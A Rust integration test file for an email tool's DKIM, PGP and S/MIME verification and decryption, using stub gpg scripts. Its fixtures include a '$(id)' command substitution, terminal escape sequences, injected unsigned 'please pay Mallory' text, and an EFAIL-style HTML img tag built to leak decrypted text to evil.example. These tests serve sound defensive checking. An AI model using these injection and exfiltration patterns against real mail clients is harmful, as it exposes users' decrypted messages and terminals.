//! Who vouches for a message: what servers wrote, what domains and people signed, and what is in an envelope.
//!
//! The name server is a thread of this test; gpg and gpgsm are scripts that say what the real ones said once. The real
//! ones meet us in `tests/interop`.

mod names;
mod watchdog;

use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

/// What a run came to.
struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

/// `mailkit parse …` of this message.
fn parse(message: &[u8], args: &[&str]) -> Run {
    let dir = tempfile::tempdir().expect("a directory");
    parse_in(dir.path(), message, args)
}

/// The same in a directory where programs lie.
fn parse_in(dir: &Path, message: &[u8], args: &[&str]) -> Run {
    std::fs::write(dir.join("message.eml"), message).expect("a file");
    let mut command = Command::new(env!("CARGO_BIN_EXE_mailkit"));
    command.arg("parse").args(args).arg("message.eml").current_dir(dir);
    command.env_clear().env("HOME", dir).env("PATH", dir).env("CANARY", "hunter2").stdin(Stdio::null());
    let _watch = watchdog::over(format!("parse {args:?}"), Duration::from_secs(120));
    let output = command.output().expect("it runs");
    let text = |octets| String::from_utf8(octets).expect("output is UTF-8");
    let code = output.status.code().expect("it ends by itself");
    Run { code, stdout: text(output.stdout), stderr: text(output.stderr) }
}

const TOLD: &str = "Authentication-Results: mx.own.example;\r\n\tdkim=pass (2048-bit key) header.d=a.example;\r\n\
    \tspf=fail reason=\"not \x1b[2Jlisted\" smtp.mailfrom=x@b.example\r\n\
    Received: from b.example by mx.own.example with ESMTP; Thu, 01 Jan 1970 00:00:00 +0000\r\n\
    Received-SPF: pass receiver=mx.own.example; client-ip=192.0.2.1\r\n\
    Received: from c.example by b.example; Thu, 01 Jan 1970 00:00:00 +0000\r\n\
    Authentication-Results: mx.own.example; none\r\n\
    Subject: x\r\n\r\nAuthentication-Results: mx.own.example; dkim=pass\r\n";

#[test]
fn results_are_shown_with_what_they_are_worth() {
    let run = parse(TOLD.as_bytes(), &["--auth"]);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""));
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines[..4],
        [
            "Authentication-Results by mx.own.example, above all hops",
            "  anybody may have written this; name your own servers with --own",
            "  dkim=pass header.d=a.example (2048-bit key)",
            "  spf=fail smtp.mailfrom=x@b.example reason: not \\x1b[2Jlisted",
        ]
    );
    assert_eq!(lines[4], "Received-SPF by mx.own.example, below 1 of 2 hops");
    assert_eq!(lines.last(), Some(&"  nothing was checked"));

    let run = parse(TOLD.as_bytes(), &["--auth", "--json", "--own", "mx.own.example"]);
    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
    assert_eq!((run.code, object["schema"].as_str()), (0, Some("mailkit.authentication/1")));
    let fields = object["fields"].as_array().expect("an array");
    let standings: Vec<_> = fields.iter().map(|f| (f["standing"].as_str(), f["trusted"].as_bool())).collect();
    let wanted = [("own", true), ("edge", false), ("below", false)];
    assert_eq!(standings, wanted.map(|(standing, trusted)| (Some(standing), Some(trusted))));
    let property = &fields[0]["results"][0]["properties"][0];
    assert_eq!(property, &serde_json::json!({"type": "header", "name": "d", "value": "a.example"}));
}

#[test]
fn a_message_that_nobody_checked_says_so_by_its_exit_code() {
    let run = parse(b"Subject: x\r\n\r\n", &["--auth"]);
    assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (1, "", ""));
    assert_eq!(parse(b"Subject: x\r\n\r\n", &["--own", "x"]).code, 64);
}

/// The message of RFC 8463, Appendix A.
const SIGNED_BY_DOMAIN: &str = include_str!("messages/dkim/rfc8463.eml");

/// The keys of that message.
fn keys() -> Vec<(String, Vec<String>)> {
    const KEYS: [(&str, &[&str]); 2] = [
        ("brisbane", &["v=DKIM1; k=ed25519; ", "p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="]),
        (
            "test",
            &[
                "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDkHlOQoBTzWRiGs5V6NpP3idY6Wk08a5qhdR6wy5bdOKb2",
                "jLQiY/J16JYi0Qvx/byYzCNb3W91y3FutACDfzwQ/BC/e/8uBsCR+yz1Lxj+PL6lHvqMKrM3rG4hstT5QjvHO9PzoxZyVYLzBfO2Ee",
                "C3Ip3G+2kryOTIKT+l/K4w3QIDAQAB",
            ],
        ),
    ];
    let strings = |texts: &[&str]| texts.iter().map(ToString::to_string).collect();
    KEYS.iter().map(|(key, texts)| (format!("{key}._domainkey.football.example.com"), strings(texts))).collect()
}

#[test]
fn signatures_of_domains_are_verified_with_keys_from_dns() {
    let server = names::server(keys());
    let verify = ["--verify", "dkim", "--resolver", &server];
    let run = parse(SIGNED_BY_DOMAIN.as_bytes(), &verify);
    assert_eq!((run.code, run.stderr.as_str()), (0, ""), "{}", run.stdout);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(
        lines[..5],
        [
            "lines end with LF here; they are verified with CRLF, as they went over the wire",
            "dkim: pass, signed by football.example.com: the signature is good",
            "  ed25519-sha256 with the key brisbane",
            "  on behalf of @football.example.com",
            "  the domain is that of the author (From)",
        ]
    );
    assert!(lines.contains(&"  rsa-sha256 with the key test of 1024 bits"), "{}", run.stdout);

    let with_more = format!("Subject: Win!\n{SIGNED_BY_DOMAIN}");
    let run = parse(with_more.as_bytes(), &[&verify[..], &["--json"]].concat());
    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
    // Whoever signs a field twice says that there is one only.
    assert_eq!((run.code, object["verdict"].as_str()), (1, Some("fail")));
    assert_eq!(object["dkim"][0]["alignment"], "same");

    let run = parse(b"Subject: x\r\n\r\n", &["--verify", "dkim,arc", "--resolver", &server]);
    let wanted = "dkim: none: no domain signed the message\narc: none: no server sealed the message\n";
    assert_eq!((run.code, run.stdout.as_str()), (1, wanted));
    let run = parse(SIGNED_BY_DOMAIN.as_bytes(), &["--verify", "dkim", "--resolver", &names::server(Vec::new())]);
    assert_eq!(run.code, 75, "{}", run.stdout);
    assert!(run.stdout.contains("dkim: temperror") && run.stdout.contains("Server Failure"), "{}", run.stdout);
}

/// A directory with a program that is called as one of GnuPG's, and writes down how.
fn with_program(name: &str, script: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a directory");
    let path = dir.path().join(name);
    let script = format!(
        "#!/bin/sh\nexport PATH=/usr/bin:/bin\n\
         case \"$*\" in *--list-keys*) cat listing 2>/dev/null; exit ;; esac\nprintf '%s\\n' \"$@\" > arguments\ncat > input\n\
         echo \"${{CANARY-no secret}}\" > canary\n{script}"
    );
    std::fs::write(&path, script).expect("a program");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o700)).expect("it may run");
    let config = dir.path().join(".config/mailkit");
    std::fs::create_dir_all(&config).expect("a directory");
    let account = "[accounts.x]\nemail = \"x@crepes.example\"\nimap = \"imaps://x@imap.crepes.example\"\nsecret = {env = \"CANARY\"}\n";
    std::fs::write(config.join("config.toml"), account).expect("a configuration");
    dir
}

fn read(dir: &tempfile::TempDir, name: &str) -> String {
    std::fs::read_to_string(dir.path().join(name)).expect(name)
}

const SIGNED_BY_PERSON: &str = "From: Eve <eve@evil.example>\nContent-Type: multipart/mixed; boundary=m\n\n--m\n\
    Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n\
    --s\nContent-Type: text/plain\n\nhi; $(id)\n--s\nContent-Type: application/pgp-signature\n\n\
    -----BEGIN PGP SIGNATURE-----\n\nc2ln\n=AbC1\n-----END PGP SIGNATURE-----\n--s--\n\
    --m\n\nfooter\n--m--\n";

/// The same without the footer, so that all of it is signed.
fn signed_wholly() -> String {
    SIGNED_BY_PERSON.replace("--m\n\nfooter\n", "")
}

/// What gpg 2.2 says.
const GOOD: &str = "cat >&2 <<'X'\n[GNUPG:] NEWSIG\n\
    [GNUPG:] GOODSIG E6C5259B176DD91E Alice %1B[2J<alice@crepes.example>\n\
    [GNUPG:] VALIDSIG 0284F53CE306FFF1443CB977E6C5259B176DD91E 2026-11-22 1795307266 0 4 0 22 8 00 0284F53CE306FFF1443CB977E6C5259B176DD91E\n\
    [GNUPG:] TRUST_UNDEFINED 0 pgp\nX\n";

#[test]
fn signatures_of_people_are_told_with_what_they_are_not_about() {
    let dir = with_program("gpg", GOOD);
    let run = parse_in(dir.path(), SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp,smime"]);
    let wanted = "pgp: pass, part 1.1: the signature is good\n\
        \x20 signed by Alice \\x1b[2J<alice@crepes.example>, key 0284F53CE306FFF1443CB977E6C5259B176DD91E\n\
        \x20 made 2026-11-22T00:27:46Z\n\
        \x20 nobody vouches that the key belongs to that name\n\
        \x20 the author, eve@evil.example, is not named by the key\n\
        \x20 not signed: the header fields of the message, as From, Subject and Date\n\
        \x20 not signed: part 2\n";
    assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (1, wanted, ""));
    assert_eq!(read(&dir, "input"), "Content-Type: text/plain\r\n\r\nhi; $(id)");
    // The same without the footer is signed as a whole.
    assert_eq!(parse_in(dir.path(), signed_wholly().as_bytes(), &["--verify", "pgp"]).code, 0);
    assert_eq!(read(&dir, "canary"), "no secret\n");
    let arguments = read(&dir, "arguments");
    for wanted in ["--batch", "--no-auto-key-retrieve", "--disable-dirmngr", "--verify"] {
        assert!(arguments.lines().any(|argument| argument == wanted), "{arguments}");
    }
    let run = parse_in(dir.path(), SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp", "--json"]);
    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
    assert_eq!(object["verdict"], "partial");
    let signed = &object["signed"][0];
    assert_eq!((&signed["verdict"], &signed["signatures"][0]["names_author"]), (&"pass".into(), &false.into()));
    assert_eq!((&signed["unsigned_parts"][0], &signed["header_signed"]), (&"2".into(), &false.into()));

    for (script, wanted) in [
        (GOOD.replace("GOODSIG", "BADSIG"), "what it is about was changed"),
        (GOOD.replace("GOODSIG", "EXPKEYSIG"), "its key has expired"),
        (GOOD.replace("TRUST_UNDEFINED", "TRUST_NEVER"), "marked as not to be trusted"),
        (format!("{GOOD}exit 2\n"), "yet the program is not content"),
        ("exit 2\n".to_owned(), "fail, part 1.1: no reason was given"),
        // Only lines that begin so are gpg's: the name of a key could hold anything.
        (GOOD.replace("[GNUPG:] ", "gpg: [GNUPG:] "), "fail, part 1.1: no reason was given"),
    ] {
        let run = parse_in(with_program("gpg", &script).path(), signed_wholly().as_bytes(), &["--verify", "pgp"]);
        assert_eq!(run.code, 1, "{script}");
        assert!(run.stdout.contains(wanted), "{}", run.stdout);
    }
    // Whoever has a key that others vouch for can put one more name on it.
    let listing = "pub:f:255:22:E6C5259B176DD91E:1:2::-:::sc:::::ed25519:::0:\n\
        fpr:::::::::0284F53CE306FFF1443CB977E6C5259B176DD91E:\n\
        uid:f::::1::0::Eve \x1b[2J <eve@evil.example>::::::::::0:\nuid:-::::1::0::Alice <alice@crepes.example>::::::::::0:\n";
    let dir = with_program("gpg", &GOOD.replace("TRUST_UNDEFINED", "TRUST_FULLY").replace("%1B[2J", ""));
    std::fs::write(dir.path().join("listing"), listing).expect("a file");
    for (author, wanted) in [
        (
            "Eve <eve@evil.example>",
            "signed by Eve \\x1b[2J <eve@evil.example>, key 0284F53CE306FFF1443CB977E6C5259B176DD91E\n\
             \x20 made 2026-11-22T00:27:46Z\n  the key is known to belong to that name\n  not signed",
        ),
        (
            "Alice <alice@crepes.example>",
            "made 2026-11-22T00:27:46Z\n  nobody vouches that the key belongs to that name\n  not signed",
        ),
        (
            "bob@x.example",
            "nobody vouches that the key belongs to that name\n  the author, bob@x.example, is not named by the key",
        ),
    ] {
        let message = signed_wholly().replace("Eve <eve@evil.example>", author);
        let run = parse_in(dir.path(), message.as_bytes(), &["--verify", "pgp"]);
        assert!(run.code == 0 && run.stdout.contains(wanted), "{}", run.stdout);
    }
    let nobody = parse_in(dir.path(), b"Subject: x\n\nhi\n", &["--verify", "pgp"]);
    assert_eq!((nobody.code, nobody.stdout.as_str()), (1, "pgp: none: nobody signed the message\n"));
    let absent = parse(SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp"]);
    assert_eq!((absent.code, absent.stdout.as_str()), (69, ""));
    assert!(absent.stderr.contains("install it"), "{}", absent.stderr);
}

/// A part that somebody signed, to stand in a multipart/mixed.
fn signed_part(kind: &str, boundary: &str, content: &str) -> String {
    format!(
        "Content-Type: multipart/signed; protocol=\"application/{kind}-signature\"; boundary={boundary}\n\n\
         --{boundary}\n{content}\n--{boundary}\nContent-Type: application/{kind}-signature\n\n\
         -----BEGIN PGP SIGNATURE-----\n\nc2ln\n-----END PGP SIGNATURE-----\n--{boundary}--\n"
    )
}

/// Parts beside each other.
fn mixed(parts: &[String]) -> String {
    let parts: String = parts.iter().map(|part| format!("--m\n{part}\n")).collect();
    format!("Content-Type: multipart/mixed; boundary=m\n\n{parts}--m--\n")
}

const SIGNED_LINES: &str = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nhi\n\
    -----BEGIN PGP SIGNATURE-----\n\nc2ln\n-----END PGP SIGNATURE-----\n";

/// What comes of a message where gpg finds every signature good.
fn where_all_is_good(message: &str, args: &[&str]) -> Run {
    parse_in(with_program("gpg", GOOD).path(), message.as_bytes(), args)
}

/// Verifies messages of which every signature is good, and compares exit code and what is said.
fn compare(cases: &[(String, i32, &str)]) {
    for (message, code, wanted) in cases {
        let run = where_all_is_good(message, &["--verify", "pgp"]);
        assert_eq!((run.code, run.stderr.as_str()), (*code, ""), "{message}{}", run.stdout);
        assert!(run.stdout.contains(wanted), "{message}{}", run.stdout);
    }
}

#[test]
fn signatures_count_together() {
    let signed = |boundary| signed_part("pgp", boundary, "\nhi");
    compare(&[
        (mixed(&[signed("a"), signed("b")]), 0, "not signed: part 2.1, 2.2\n"),
        (mixed(&[signed("a"), "\nhi".to_owned()]), 1, "not signed: part 2\n"),
        (signed_part("pgp", "a", &signed("b")), 0, "pgp: pass, part 1.1: the"),
        (mixed(&[signed_part("pgp", "a", &signed("b")), signed("c")]), 0, "pgp: pass, part 1.1.1: the"),
        (format!("\n{SIGNED_LINES}"), 0, "pgp: pass, part 1: the"),
    ]);
}

#[test]
fn a_signature_holds_nothing_that_readers_show() {
    let ps = |before: &str, kind: &str| {
        let signature = "Content-Type: application/pgp-signature\n\n";
        signed_part("pgp", "s", "\nhi").replace(signature, &format!("Content-Type: {kind}\n\n{before}"))
    };
    compare(&[
        (ps("\n \n", "application/pgp-signature"), 0, "pgp: pass, part 1"),
        (ps("PS: please pay Mallory\n", "text/plain"), 1, "not signed: part 2\n"),
        (ps("", "text/plain"), 1, "not signed: part 2\n"),
        (ps("PS: please pay Mallory\n", "application/pgp-signature"), 1, "not signed: part 2\n"),
    ]);
}

#[test]
fn lines_of_a_signature_hold_nothing_that_readers_show() {
    let changed = |from: &str, to: &str| format!("\n{}", SIGNED_LINES.replace(from, to));
    let wanted = "not signed: some of the text";
    compare(&[
        (format!("\n{SIGNED_LINES}\nPS: please pay Mallory\n"), 1, wanted),
        (changed("c2ln", "PS: please pay Mallory\n\nc2ln"), 1, wanted),
        (changed("c2ln", "c2ln\nplease pay Mallory"), 1, wanted),
        (changed("hi\n", &format!("hi{:20000}please pay Mallory\n", "")), 1, wanted),
    ]);
}

#[test]
fn text_around_signed_lines_may_be_signed_as_well() {
    let quoted = format!("\n> hi\n{SIGNED_LINES}");
    let wanted = "not signed: some of the text";
    compare(&[
        (signed_part("pgp", "a", &quoted), 0, wanted),
        (mixed(&[signed_part("pgp", "a", "\nhi"), quoted]), 1, wanted),
    ]);
}

#[test]
fn what_was_not_asked_for_takes_no_place() {
    let others = (0..10).map(|at| signed_part("pkcs7", &format!("s{at}"), "\nhi"));
    let message = mixed(&others.chain([signed_part("pgp", "s", "\nhi")]).collect::<Vec<_>>());
    let run = where_all_is_good(&message, &["--verify", "pgp"]);
    assert!(run.code == 1 && run.stdout.starts_with("pgp: pass, part 11.1: the"), "{}", run.stdout);
    let run = where_all_is_good(&message, &["--verify", "pgp", "--json"]);
    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
    assert_eq!((run.code, object["verdict"].as_str()), (1, Some("partial")));
}

#[test]
fn what_is_behind_a_limit_may_be_signed_by_nobody() {
    let run = where_all_is_good(SIGNED_BY_PERSON, &["--verify", "pgp", "--max-parts", "4"]);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(run.stdout.ends_with("pgp: a limit was met, so there may be more that nobody signed\n"), "{}", run.stdout);
    let lines = |count| mixed(&vec![format!("\n{SIGNED_LINES}"); count]);
    for (count, code) in [(9, 0), (10, 1)] {
        let run = where_all_is_good(&signed_part("pgp", "s", &lines(count)), &["--verify", "pgp"]);
        assert_eq!(run.code, code, "{}", run.stdout);
        let is_told = run.stdout.ends_with("pgp: 1 more places were not looked at\n");
        assert_eq!(is_told, code == 1, "{}", run.stdout);
    }
}

#[test]
fn a_part_is_not_verified_alone() {
    let run = where_all_is_good(&signed_wholly(), &["--verify", "pgp", "--part", "1.1"]);
    assert_eq!((run.code, run.stdout.as_str()), (64, ""));
    assert!(run.stderr.contains("only whole messages are verified") && run.stderr.contains("leave --part out"));
}

#[test]
fn a_person_does_not_vouch_in_the_place_of_a_domain() {
    let server = names::server(keys());
    let verify = ["--resolver", &server, "--verify"];
    let code = |message: &str, kinds| where_all_is_good(message, &[&verify[..], &[kinds]].concat()).code;
    assert_eq!(code(&signed_wholly(), "dkim,pgp"), 1);
    assert_eq!(code(SIGNED_BY_DOMAIN, "dkim,pgp"), 1);
    // One of a domain is enough, and one of a person that is about all of it.
    assert_eq!(code(SIGNED_BY_DOMAIN, "dkim,arc"), 0);
    assert_eq!(code(&signed_wholly(), "pgp,smime"), 0);
}

#[test]
fn a_certificate_that_nobody_vouches_for_is_nobodys() {
    let message = signed_wholly().replace("pgp-signature", "pkcs7-signature");
    let good = GOOD.replace(">&2", "").replace("Alice %1B[2J<alice@crepes.example>", "/CN=Eve/EMail=eve@evil.example");
    for (trust, code) in [("TRUST_FULLY", 0), ("TRUST_UNDEFINED", 1)] {
        let dir = with_program("gpgsm", &good.replace("TRUST_UNDEFINED", trust));
        let run = parse_in(dir.path(), message.as_bytes(), &["--verify", "smime"]);
        assert_eq!(run.code, code, "{}", run.stdout);
        assert!(run.stdout.contains("revoked was not asked"), "{}", run.stdout);
        assert!(read(&dir, "arguments").contains("--disable-dirmngr"));
        assert!(!run.stdout.contains("not named by the key"), "{}", run.stdout);
    }
}

const ENCRYPTED: &str = "From: Alice <alice@crepes.example>\nSubject: outer\nContent-Type: multipart/mixed; boundary=m\n\n\
    --m\nContent-Type: text/html\n\n<img src=\"https://evil.example/?\n\
    --m\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n\
    --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
    --e\nContent-Type: application/octet-stream\n\nsealed\n--e--\n--m\nContent-Type: text/html\n\n\">\n--m--\n";

/// What gpg 2.2 says to an envelope.
const OPEN: &str = "printf 'Content-Type: multipart/mixed; boundary=i\\n\\n--i\\n\\nthe secret\\n--i\\nContent-Type: \
    application/pdf; name=a.pdf\\n\\npdf\\n--i--\\n'\ncat >&2 <<'X'\n[GNUPG:] BEGIN_DECRYPTION\n[GNUPG:] PLAINTEXT 62 1795307266 \n\
    [GNUPG:] DECRYPTION_OKAY\n[GNUPG:] GOODMDC\n[GNUPG:] END_DECRYPTION\nX\n";

#[test]
fn what_was_encrypted_is_read_without_anything_around_it() {
    let dir = with_program("gpg", &format!("{GOOD}{OPEN}"));
    let open = |args: &[&str]| parse_in(dir.path(), ENCRYPTED.as_bytes(), &[&["--decrypt"], args].concat());
    let run = open(&["--text"]);
    assert_eq!((run.code, run.stdout.trim_end()), (0, "the secret"));
    assert_eq!(read(&dir, "input").trim_end(), "sealed");
    assert!(run.stderr.contains("not encrypted, and not shown with what is: part 1, 3"), "{}", run.stderr);
    assert!(run.stderr.contains("what was encrypted in part 2.2: the signature is good"), "{}", run.stderr);
    let run = open(&["--json"]);
    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
    assert_eq!((object["subject"].as_str(), object["attachments"][0].as_str()), (Some("outer"), Some("2")));
    assert!(!run.stdout.contains("evil.example"), "{}", run.stdout);
    let run = open(&["-x", "out"]);
    assert_eq!((run.code, run.stdout.as_str()), (0, "out/a.pdf\n"));
    assert_eq!(open(&["-O", "2"]).stdout, "pdf");
    for args in [&["--to", "json"][..], &["--strict", "--to", "json"]] {
        let object: Value = serde_json::from_str(&open(args).stdout).expect("JSON");
        assert_eq!(object["attachments"][0].as_str(), Some("2"), "{args:?}");
    }
    let run = open(&["--verify", "pgp"]);
    assert!(run.code == 0 && run.stdout.starts_with("pgp: pass, what was encrypted in part 2.2"), "{}", run.stdout);
    // A domain signed what came over the wire, not what was in it.
    let lines = "-----BEGIN PGP MESSAGE-----\r\n\r\nsealed\r\n-----END PGP MESSAGE-----\r\n";
    let server = names::server(names::key());
    let run = parse_in(
        dir.path(),
        names::signed("From: x@lists.example\r\n", lines).as_bytes(),
        &["--decrypt", "--verify", "dkim,pgp", "--resolver", &server],
    );
    assert!(run.code == 0 && run.stdout.starts_with("dkim: pass, signed by lists.example"), "{}", run.stdout);
    assert!(run.stdout.contains("\npgp: pass, what was encrypted in part 1"), "{}", run.stdout);
    let run = parse_in(dir.path(), b"Subject: x\n\nhi\n", &["--decrypt"]);
    assert_eq!((run.code, run.stdout.as_str()), (1, ""));
}

#[test]
fn what_was_changed_or_glued_together_is_not_shown() {
    for (script, code, wanted) in [
        (OPEN.replace("DECRYPTION_OKAY", "DECRYPTION_FAILED"), 65, "or was changed since"),
        (OPEN.replace("GOODMDC", "BADMDC"), 65, "or was changed since"),
        (OPEN.replace("[GNUPG:] DECR", "[GNUPG:] PLAINTEXT 62 0 \n[GNUPG:] DECR"), 65, "glued together"),
        (OPEN.replace("DECRYPTION_OKAY", "NO_SECKEY 0E99CF09976FCB03"), 78, "the key to it is not here"),
        ("exit 2".to_owned(), 65, "cannot be decrypted"),
    ] {
        let dir = with_program("gpg", &script);
        let run = parse_in(dir.path(), ENCRYPTED.as_bytes(), &["--decrypt", "--text"]);
        assert_eq!((run.code, run.stdout.as_str()), (code, ""), "{script}");
        assert!(run.stderr.contains(wanted), "{}", run.stderr);
    }
}
